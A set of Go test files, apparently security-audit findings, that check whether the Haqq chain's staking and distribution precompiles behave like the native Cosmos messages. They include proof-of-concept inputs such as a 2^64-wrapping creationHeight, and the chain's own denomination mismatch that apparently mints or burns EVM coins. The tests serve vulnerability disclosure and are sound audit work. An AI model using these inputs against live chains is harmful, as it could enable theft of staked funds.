			if r := recover(); r != nil {
				applyErr = fmt.Errorf("ApplyMessage PANICKED: %v", r)
			}
		}()
		res, applyErr = s.app.EvmKeeper.ApplyMessage(ctxB, ethMsg, evmtypes.NewNoOpTracer(), true)
	}()
	s.Require().NoError(applyErr, "the precompile call must succeed where the native message succeeds")
	s.Require().False(res.Failed(), "the precompile call must succeed where the native message succeeds: %s", res.VmError)

	evmPaid := s.app.BankKeeper.GetBalance(ctxB, operator, s.bondDenom).Amount.Sub(balBefore)
	s.Require().Equal(nativePaid.String(), evmPaid.String(), "commission paid to the operator")
	s.Require().Equal(
		s.app.DistrKeeper.GetValidatorAccumulatedCommission(ctxA, valAddr),
		s.app.DistrKeeper.GetValidatorAccumulatedCommission(ctxB, valAddr),
	)
}
