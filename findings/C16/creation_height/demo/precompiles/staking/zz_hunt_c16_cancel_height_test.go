package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
)

func (s *PrecompileTestSuite) zzC16NextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// TestZZHuntC16CancelUnbondingHeightWraps: the account owner calls cancelUnbondingDelegation with a creationHeight at
// which he has no unbonding entry. The native MsgCancelUnbondingDelegation fails for every height other than the
// entry's own one, so the precompile call must fail too and must leave the unbonding delegation alone.
func (s *PrecompileTestSuite) TestZZHuntC16CancelUnbondingHeightWraps() {
	s.SetupTest()
	s.zzC16NextBlock()

	del := sdk.AccAddress(s.address.Bytes())
	val := s.validators[0].GetOperator()
	amt := math.NewInt(3e17)

	callArgs := contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
	}

	// the owner unbonds 0.3 ISLM from validator 0 through the precompile
	entryHeight := s.ctx.BlockHeight()
	_, _, err := contracts.Call(s.ctx, s.app, callArgs.WithMethodName(staking.UndelegateMethod).WithArgs(s.address, val.String(), amt.BigInt()))
	s.Require().NoError(err)
	s.zzC16NextBlock()

	ubd, found := s.app.StakingKeeper.GetUnbondingDelegation(s.ctx, del, val)
	s.Require().True(found)
	s.Require().Len(ubd.Entries, 1)
	s.Require().Equal(entryHeight, ubd.Entries[0].CreationHeight)
	delBefore, _ := s.app.StakingKeeper.GetDelegation(s.ctx, del, val)

	// reference: the native message only succeeds for creation_height == entryHeight
	for _, h := range []int64{entryHeight - 1, entryHeight + 1, 1 << 62} {
		ctx, _ := s.ctx.CacheContext()
		native := &stakingtypes.MsgCancelUnbondingDelegation{DelegatorAddress: del.String(), ValidatorAddress: val.String(), Amount: sdk.NewCoin(s.bondDenom, amt), CreationHeight: h}
		_, err = s.app.MsgServiceRouter().Handler(native)(ctx, native)
		s.Require().ErrorContains(err, "unbonding delegation entry is not found at block height", "native message, height %d", h)
	}

	// the precompile is called with creationHeight = 2^64 + entryHeight: the owner has no entry at that height
	bogusHeight := new(big.Int).Add(new(big.Int).Lsh(big.NewInt(1), 64), big.NewInt(entryHeight))
	_, _, err = contracts.Call(s.ctx, s.app, callArgs.WithMethodName(staking.CancelUnbondingDelegationMethod).WithArgs(s.address, val.String(), amt.BigInt(), bogusHeight))
	s.zzC16NextBlock()

	ubdAfter, foundAfter := s.app.StakingKeeper.GetUnbondingDelegation(s.ctx, del, val)
	delAfter, _ := s.app.StakingKeeper.GetDelegation(s.ctx, del, val)
	s.T().Logf("entry height %d, creationHeight argument %s: call error = %v ; unbonding delegation still there = %v (entries %d) ; delegation shares before %s after %s",
		entryHeight, bogusHeight, err, foundAfter, len(ubdAfter.Entries), delBefore.Shares, delAfter.Shares)

	s.Require().Error(err, "cancelUnbondingDelegation with a creation height that matches no entry must fail like the native message")
	s.Require().True(foundAfter, "the unbonding delegation created at height %d must not have been cancelled", entryHeight)
	s.Require().Equal(delBefore.Shares.String(), delAfter.Shares.String(), "delegation must be unchanged")
}
