package staking_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/precompiles/distribution"
	"github.com/haqq-network/haqq/precompiles/staking"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntStakingDenomIsNotEvmDenom: nothing ties the staking bond denomination to the EVM denomination
// (`haqqd init` itself writes a genesis with bond_denom "stake" and evm_denom "aISLM"; app/ethtest_helper.go
// builds exactly such a chain). The EVM only keeps the balance of the EVM denomination.
//
// The account owner delegates 0.1 bond coins / withdraws his rewards (paid in bond coins). The native
// messages only move bond coins. The precompiles "mirror" the bond-denom movement into the StateDB,
// i.e. into the owner's EVM-denom balance, and the final StateDB commit burns / mints EVM-denom coins.
func (s *PrecompileTestSuite) TestZZHuntStakingDenomIsNotEvmDenom() {
	const evmDenom = "atest"
	owner := sdk.AccAddress(s.address.Bytes())

	// the EVM denomination is another coin than the bond denomination; the owner holds 1 of it
	params := s.app.EvmKeeper.GetParams(s.ctx)
	params.EvmDenom = evmDenom
	s.Require().NoError(s.app.EvmKeeper.SetParams(s.ctx, params))
	evmCoins := sdk.NewCoins(sdk.NewCoin(evmDenom, math.NewInt(1e18)))
	s.Require().NoError(s.app.BankKeeper.MintCoins(s.ctx, coinomicstypes.ModuleName, evmCoins))
	s.Require().NoError(s.app.BankKeeper.SendCoinsFromModuleToAccount(s.ctx, coinomicstypes.ModuleName, owner, evmCoins))

	// 0.003 bond coins of rewards for validator 0, of which the owner (sole delegator) gets all
	rewards := sdk.NewCoins(sdk.NewCoin(s.bondDenom, math.NewInt(3e15)))
	s.Require().NoError(s.app.BankKeeper.MintCoins(s.ctx, coinomicstypes.ModuleName, rewards))
	s.Require().NoError(s.app.BankKeeper.SendCoinsFromModuleToModule(s.ctx, coinomicstypes.ModuleName, distrtypes.ModuleName, rewards))
	val0, found := s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.Require().True(found)
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val0, sdk.NewDecCoinsFromCoins(rewards...))

	distrPrecompile, err := distribution.NewPrecompile(s.app.DistrKeeper, s.app.StakingKeeper, s.app.AuthzKeeper)
	s.Require().NoError(err)

	call := func(ctx sdk.Context, to common.Address, data []byte) {
		msg := ethtypes.NewMessage(
			s.address, &to, s.app.EvmKeeper.GetNonce(ctx, s.address),
			big.NewInt(0), 3_000_000, big.NewInt(0), big.NewInt(0), big.NewInt(0),
			data, ethtypes.AccessList{}, false,
		)
		res, err := s.app.EvmKeeper.ApplyMessage(ctx, msg, evmtypes.NewNoOpTracer(), true)
		s.Require().NoError(err)
		s.Require().False(res.Failed(), res.VmError)
	}

	testCases := []struct {
		name   string
		native sdk.Msg
		to     common.Address
		data   func() ([]byte, error)
	}{
		{
			"staking.delegate(owner, val0, 0.1)",
			&stakingtypes.MsgDelegate{DelegatorAddress: owner.String(), ValidatorAddress: val0.OperatorAddress, Amount: sdk.NewCoin(s.bondDenom, math.NewInt(1e17))},
			s.precompile.Address(),
			func() ([]byte, error) {
				return s.precompile.Pack(staking.DelegateMethod, s.address, val0.OperatorAddress, big.NewInt(1e17))
			},
		},
		{
			"distribution.withdrawDelegatorRewards(owner, val0)",
			&distrtypes.MsgWithdrawDelegatorReward{DelegatorAddress: owner.String(), ValidatorAddress: val0.OperatorAddress},
			distrPrecompile.Address(),
			func() ([]byte, error) {
				return distrPrecompile.Pack(distribution.WithdrawDelegatorRewardsMethod, s.address, val0.OperatorAddress)
			},
		},
	}

	for _, tc := range testCases {
		s.Run(tc.name, func() {
			// fork A: the native message
			ctxA, _ := s.ctx.CacheContext()
			s.Require().NoError(tc.native.ValidateBasic())
			_, err := s.app.MsgServiceRouter().Handler(tc.native)(ctxA, tc.native)
			s.Require().NoError(err)

			// fork B: the precompile call by the owner
			ctxB, _ := s.ctx.CacheContext()
			data, err := tc.data()
			s.Require().NoError(err)
			call(ctxB, tc.to, data)

			// both moved the same bond coins ...
			s.Require().Equal(
				s.app.BankKeeper.GetBalance(ctxA, owner, s.bondDenom).String(),
				s.app.BankKeeper.GetBalance(ctxB, owner, s.bondDenom).String(),
				"bond denom balance of the owner",
			)
			// ... and neither has any business with the other coin
			s.Require().Equal(
				s.app.BankKeeper.GetBalance(ctxA, owner, evmDenom).String(),
				s.app.BankKeeper.GetBalance(ctxB, owner, evmDenom).String(),
				"EVM denom balance of the owner: native vs precompile",
			)
			s.Require().Equal(
				s.app.BankKeeper.GetSupply(ctxA, evmDenom).String(),
				s.app.BankKeeper.GetSupply(ctxB, evmDenom).String(),
				"EVM denom total supply: native vs precompile",
			)
		})
	}
}
